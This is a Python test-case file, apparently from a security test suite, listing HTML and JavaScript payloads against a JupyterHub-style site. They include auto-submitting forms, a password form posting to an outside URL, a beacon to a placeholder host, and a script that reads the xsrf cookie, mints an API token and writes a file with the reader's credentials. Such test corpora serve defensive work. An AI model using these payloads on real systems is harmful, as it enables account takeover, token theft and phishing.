"""Forms, and requests with the reader's cookies, that would change something on the site."""

from .case import Case

RIGHTS = (
    "(async()=>{const u=location.pathname.split('/')[2];"
    "const x=(document.cookie.match(/_xsrf=([^;]+)/)||[])[1]||'';"
    "fetch('@HERE@',{method:'POST',credentials:'include'});"
    "fetch('/hub/api/users/'+u+'/tokens?_xsrf='+x,{method:'POST',body:JSON.stringify({note:'@NAME@'})});"
    "const base=location.pathname.split('/').slice(0,4).join('/');"
    "fetch(base+'/api/contents/@NAME@.txt?_xsrf='+x,{method:'PUT',"
    "body:JSON.stringify({type:'file',format:'text',content:x})});})()"
)

"""With the reader's cookies: make a token, and write a file into the folder of the server that the page is of."""

CASES = [
    Case(
        "form-sends-itself",
        "<form action='@HERE@' method=post><input name=a value=b></form>"
        "<script>document.querySelector(\"form[action='@HERE@']\").submit()</script>",
    ),
    Case(
        "form-button",
        "<form action='@HERE@' method=post><input name=points value=19><button id='@NAME@'>Save</button></form>",
    ),
    Case(
        "form-outside",
        "<form action='@URL@'><input name=password><input id='@NAME@' type=submit value='Log in'></form>",
    ),
    Case(
        "form-token",
        "<form action='/hub/api/users/me/tokens?@NAME@' method=post enctype=text/plain>"
        "<input name='{\"note\":\"' value='@NAME@\"}'><button id='@NAME@'>Continue</button></form>",
    ),
    Case(
        "form-elsewhere", "<form id='sends' action='@HERE@'></form><button id='@NAME@' form='sends'>Continue</button>"
    ),
    Case("rights", f"<script>{RIGHTS}</script>"),
    Case("rights-event", f'<img src="data:," onerror="{RIGHTS}">'),
    Case("beacon-api", "<script>navigator.sendBeacon('@URL@')</script>"),
    Case("form-target", "<form action='@HERE@' target=_blank><button id='@NAME@'>Open</button></form>"),
]
